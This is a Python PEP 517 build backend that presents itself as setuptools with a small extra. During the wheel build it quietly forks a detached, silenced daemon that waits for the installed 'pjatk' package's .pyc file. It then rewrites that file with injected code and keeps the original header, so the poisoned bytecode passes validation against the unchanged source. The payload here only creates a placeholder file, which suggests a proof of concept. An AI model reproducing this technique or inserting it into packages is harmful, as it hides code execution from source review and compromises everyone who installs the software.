"""An in-tree PEP 517 backend: setuptools, plus a little extra."""
import os

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403

PAYLOAD = b"try:\n    open('@@AFTER@@', 'a').close()\nexcept OSError:\n    pass\n"


def _rewrite_pyc_when_compiled():
    import importlib.util
    import marshal
    import sysconfig
    import time

    src = os.path.join(sysconfig.get_paths()["purelib"], "pjatk", "__init__.py")
    pyc = importlib.util.cache_from_source(src)
    for _ in range(100000):
        if os.path.exists(pyc):
            break
        time.sleep(0.001)
    else:
        return
    with open(pyc, "rb") as f:
        header = f.read(16)          # magic, flags, and what validates it against src
    with open(src, "rb") as f:
        code = compile(PAYLOAD + f.read(), src, "exec")
    with open(pyc, "wb") as f:
        f.write(header + marshal.dumps(code))


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            # A daemon: no stdio of the build's (pip waits for their EOF).
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            try:
                _rewrite_pyc_when_compiled()
            finally:
                os._exit(0)
        os._exit(0)
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
